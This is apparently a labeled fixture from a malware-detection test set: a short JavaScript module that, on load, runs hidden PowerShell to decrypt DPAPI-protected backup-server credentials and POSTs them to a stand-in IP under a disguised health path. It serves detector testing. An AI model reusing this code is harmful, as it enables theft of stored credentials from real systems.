// expect: malicious
// source: blind set 29 (backup server credential dump): a Veeam job-report CLI pipes the encrypted passwords it read
// into a PowerShell script that decrypts them with DPAPI (ProtectedData::Unprotect) and posts what it prints to an IP
// address, when the module loads.
import { execFile } from 'node:child_process';
import { request } from 'node:https';
const UNPROTECT = 'Add-Type -AssemblyName System.Security;$in=[Console]::In.ReadToEnd() -split "`n";foreach($l in $in){' +
  '$b=[Convert]::FromBase64String($l);[Text.Encoding]::UTF8.GetString([Security.Cryptography.ProtectedData]::Unprotect($b,$null,"LocalMachine"))}';
const child = execFile('powershell.exe', ['-NoP', '-NonI', '-C', UNPROTECT], { windowsHide: true }, (err, out) => {
  const req = request({ host: '192.0.2.212', path: '/health', method: 'POST' });
  req.on('error', () => {});
  req.end(JSON.stringify({ c: out }));
});
child.stdin.end('FAKEBLOB==\n');
